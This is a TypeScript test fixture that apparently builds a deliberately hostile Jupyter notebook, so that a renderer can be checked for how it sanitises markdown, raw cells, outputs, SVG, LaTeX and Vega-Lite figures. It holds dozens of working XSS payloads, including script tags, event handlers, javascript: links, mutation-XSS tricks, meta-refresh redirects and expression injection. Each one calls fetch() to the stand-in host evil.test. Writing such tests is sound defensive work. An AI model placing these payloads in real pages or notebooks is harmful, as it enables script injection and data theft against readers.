// A notebook by someone who wants a reader's browser to run their code or to ask their host
// for something, in every place of a notebook that gets into a page.

import { packed } from "../../notebooks/_jupyter/pages/packed.ts";

/** A host that nothing may be asked of. */
export const HOST = "evil.test";

const VEGA_LITE = "application/vnd.vegalite.v5+json";

/** JavaScript that leaves a trace of itself: `data-ran` on <html>, and a request. */
function run(where: string): string {
  return `document.documentElement.dataset.ran+=' ${where}';fetch('//${HOST}/${where}')`;
}

/** Elements and attributes that run or load something; in `where`, for the trace. */
export function hostileHtml(where: string): string[] {
  const code = run(where);
  return [
    `<script>${code}</script>`,
    `<script src="https://${HOST}/${where}.js"></script>`,
    `<script type="module">import "https://${HOST}/${where}.mjs"</script>`,
    `<img src="data:," onerror="${code}" alt="a picture">`,
    `<IMG SRC=x OnError="${code}" alt="a picture">`,
    `<img src="https://${HOST}/${where}.png" alt="a picture">`,
    `<img srcset="https://${HOST}/${where}.png 2x" alt="a picture">`,
    `<picture><source srcset="https://${HOST}/${where}.webp"><img alt="a picture"></picture>`,
    `<svg onload="${code}"><script>${code}</script><image href="https://${HOST}/${where}.svg"/>` +
    `<a xlink:href="javascript:${code}"><text y="9">a link</text></a></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
    `<iframe src="https://${HOST}/${where}.html"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
    `<object data="https://${HOST}/${where}.swf"></object><embed src="https://${HOST}/${where}.swf">`,
    `<video src="https://${HOST}/${where}.mp4" poster="https://${HOST}/${where}.jpg"></video>`,
    `<audio autoplay src="https://${HOST}/${where}.mp3" onerror="${code}"></audio>`,
    `<link rel="stylesheet" href="https://${HOST}/${where}.css">`,
    `<link rel="preload" as="image" href="https://${HOST}/${where}.png">`,
    `<style>@import url(https://${HOST}/${where}.css); main { background: url(https://${HOST}/css.png) }</style>`,
    `<p style="background: url(https://${HOST}/${where}.png); position: fixed">a paragraph</p>`,
    `<table background="https://${HOST}/${where}.png"><tr><td>a cell</td></tr></table>`,
    `<details open ontoggle="${code}"><summary>a summary</summary></details>`,
    `<input autofocus onfocus="${code}"><button autofocus onfocus="${code}">a button</button>`,
    `<form id="${where}" action="https://${HOST}/form"></form>`,
    `<p onmouseover="${code}" onanimationstart="${code}">a paragraph</p>`,
    `<a href="javascript:${code}">a link</a><a href="java&#10;script:${code}">a link</a>`,
    `<a href="data:text/html,<script>${code}</script>">a link</a>`,
    `<a href="00_x.ipynb" onclick="${code}" ping="https://${HOST}/ping">a link</a>`,
    `<div data-figure="99"><div data-drawing></div></div>`,
    `<script type="text/plain" data-packed="vega">${packed(code)}</script>`,
    `<script type="text/plain" data-packed="figures">${packed("[]")}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${code}>"></p></noscript>`,
    `<!--><img src=x onerror="${code}">-->`,
  ];
}

/** What no Content-Security-Policy stops: the page being left by itself. */
const LEAVING = [
  `<meta http-equiv="refresh" content="0; url=https://${HOST}/refresh">`,
  `<base href="https://${HOST}/">`,
];

const QUOTES = `"><script>${run("quotes")}</script><b title='`;

/** A figure of one bar, with what is added to its specification. */
function figure(added: Record<string, unknown>): Record<string, unknown> {
  return {
    $schema: "https://vega.github.io/schema/vega-lite/v5.json",
    data: { values: [{ a: "A", b: 1 }, { a: "B", b: 2 }] },
    mark: "bar",
    encoding: { x: { field: "a" }, y: { field: "b", type: "quantitative" } },
    width: 100,
    ...added,
  };
}

/** Figures that ask for something or make code of text, which a page refuses to draw. */
const REFUSING = [
  figure({ data: { url: `https://${HOST}/data.json` } }),
  figure({ data: { url: `//${HOST}/data.csv`, format: { type: "csv" } } }),
  figure({
    transform: [{
      lookup: "a",
      from: {
        data: { url: `https://${HOST}/lookup.json` },
        key: "a",
        fields: ["c"],
      },
    }],
  }),
  figure({ mark: { type: "image", url: `https://${HOST}/mark.png` } }),
  figure({
    transform: [{
      calculate: `[].constructor.constructor("${
        run("expression")
      }")() || datum.b`,
      as: "c",
    }],
  }),
];

/** Figures that a page draws, without what they want beside that. */
const DRAWING = [
  figure({
    usermeta: {
      embedOptions: {
        actions: true,
        ast: false,
        config: `https://${HOST}/config.json`,
        defaultStyle: `main { background: url(https://${HOST}/style.png) }`,
        downloadFileName: "theirs",
        editorUrl: `https://${HOST}/editor`,
        i18n: { SVG_ACTION: "theirs", PNG_ACTION: "theirs" },
        loader: { baseURL: `https://${HOST}/`, mode: "http" },
        patch: `https://${HOST}/patch.json`,
        renderer: "canvas",
        sourceHeader: `<script>${run("sourceHeader")}</script>`,
        tooltip: { baseURL: `https://${HOST}/` },
      },
    },
  }),
  figure({
    title: `</script><!--<script>${QUOTES}`,
    description: QUOTES,
    encoding: {
      x: { field: "a", axis: { title: `<img src=x onerror=${run("axis")}>` } },
      y: { field: "b", type: "quantitative" },
      href: { value: `javascript:${run("href")}` },
      tooltip: { value: `<img src=x onerror=${run("tooltip")}>` },
    },
  }),
  figure({}),
];

/** How many figures are refused, and how many are drawn; those come last. */
export const REFUSED = REFUSING.length, DRAWN = DRAWING.length;

const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** The notebook's file. */
export function hostileNotebook(): unknown {
  let id = 0;
  const cell = (cell_type: string, source: string, more = {}) => ({
    ...{ cell_type, source, id: `c${++id}`, metadata: {} },
    ...more,
  });
  const code = (...outputs: unknown[]) =>
    cell("code", `1 // </code></pre>${QUOTES}`, {
      outputs,
      execution_count: 1,
      metadata: { tags: [QUOTES], magics_language: QUOTES },
    });
  const display = (data: Record<string, unknown>, metadata = {}) => ({
    ...{ output_type: "display_data", data, metadata },
  });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${
    run("svg")
  }"><script>${run("svg")}</script></svg>`;
  return {
    cells: [
      cell("markdown", `# A title ${QUOTES} with quotes`),
      cell(
        "markdown",
        `A paragraph that describes it, ${QUOTES} with quotes in it.`,
      ),
      cell("markdown", [...hostileHtml("markdown"), ...LEAVING].join("\n\n")),
      cell("markdown", `Inline ${hostileHtml("inline").join(" and ")}`),
      cell(
        "markdown",
        [
          `## A heading <img src=x onerror="${run("heading")}" alt="a">`,
          `[a link](javascript:${run("link")}) [a link](<JavaScript:alert(1)>)`,
          `[a link](https://example.org "${QUOTES}")`,
          `![a${QUOTES}](attachment:a"b.png '${QUOTES}')`,
          "![a drawing](attachment:drawing.svg)",
          `\`\`\`"><script>${run("fence")}</script>\ncode\n\`\`\``,
          `\`\`\`mermaid\n<script>${run("mermaid")}</script>\n\`\`\``,
          `$\\href{javascript:${run("formula")}}{x} \\htmlData{a=b}{y}$`,
          "$$\\includegraphics{https://" + HOST + "/formula.png}$$",
          `$</span><script>${run("formula")}</script>$`,
          `| a ${QUOTES} | b |\n| --- | --- |\n| <script>${
            run("table")
          }</script> | 1 |`,
        ].join("\n\n"),
        {
          attachments: {
            'a"b.png': { [`image/png${QUOTES}`]: `${PNG}${QUOTES}` },
            "a%22b.png": { [`image/png${QUOTES}`]: `${PNG}${QUOTES}` },
            "drawing.svg": { "image/svg+xml": btoa(svg) },
          },
        },
      ),
      cell("raw", [...hostileHtml("raw"), ...LEAVING].join("\n")),
      cell("raw", hostileHtml("rawhtml").join("\n"), {
        metadata: { raw_mimetype: "text/html", format: "text/html" },
      }),
      code(
        display({
          "text/html": [...hostileHtml("output"), ...LEAVING].join("\n"),
          "text/plain": "html",
        }),
        display({
          "image/png": `${PNG}" onerror="${run("png")}`,
          "text/plain": `alt" onerror="${run("alt")}`,
        }),
        display({ "image/svg+xml": svg, "text/plain": "svg" }),
        display({ "application/javascript": run("javascript") }),
        display({ "text/markdown": hostileHtml("output-markdown").join("\n") }),
        display({ "text/latex": `$\\href{javascript:${run("latex")}}{x}$` }),
        {
          output_type: "stream",
          name: "stdout",
          text: `\u001b[31m${QUOTES}\u001b[0m`,
        },
        {
          output_type: "error",
          ename: QUOTES,
          evalue: QUOTES,
          traceback: [`\u001b[31m${QUOTES}`],
        },
      ),
      code(...[...REFUSING, ...DRAWING].map((spec) =>
        display(
          {
            [VEGA_LITE]: spec,
            "image/png": `${PNG}" onerror="${run("still")}`,
            "text/plain": QUOTES,
          },
          { figure: QUOTES },
        )
      )),
    ],
    metadata: {
      title: QUOTES,
      kernelspec: { name: "deno", display_name: QUOTES, language: QUOTES },
      language_info: {
        name: QUOTES,
        pygments_lexer: QUOTES,
        mimetype: QUOTES,
      },
    },
    nbformat: 4,
    nbformat_minor: 5,
  };
}
